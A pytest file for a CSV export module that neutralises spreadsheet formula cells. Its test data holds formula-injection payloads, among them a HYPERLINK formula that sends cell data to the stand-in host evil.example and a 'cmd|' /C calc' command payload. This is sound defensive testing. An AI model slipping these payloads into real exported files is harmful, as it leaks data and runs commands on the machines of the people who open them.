"""The one CSV writer: formula cells neutralised, numbers kept, and no other writer in the code."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from core.csv_export import SafeCsvWriter, neutralise, restore

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"見積書")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"見積書")',
        ),
        ("+81-3-1234-5678", "'+81-3-1234-5678"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-31389000", "-31389000"),  # a negative amount stays a number
        ("+3.5", "+3.5"),
        ("市道１号線舗装補修工事", "市道１号線舗装補修工事"),
        (None, ""),
        (12, "12"),
    ],
)
def test_formula_cells_are_neutralised(value: object, written: str) -> None:
    assert neutralise(value) == written
    assert restore(written) == ("" if value is None else str(value))


def test_the_writer_neutralises_every_cell() -> None:
    out = io.StringIO()
    SafeCsvWriter(out, lineterminator="\r\n").writerows([["=1+1", "ok"], ["@x", "-5"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "ok"], ["'@x", "-5"]]


def test_no_other_csv_writer_in_the_product() -> None:
    """Every CSV the gateway writes goes through core.csv_export (demo input files aside:
    they play the procurement system's export, which the gateway then reads)."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = []
    for package in ("core", "connectors", "gateway", "mapping", "schedules"):
        for path in (ROOT / package).rglob("*.py"):
            relative = path.relative_to(ROOT).as_posix()
            if relative in {"core/csv_export.py", "gateway/demo.py"}:
                continue
            if writers.search(path.read_text(encoding="utf-8")):
                found.append(relative)
    assert found == []
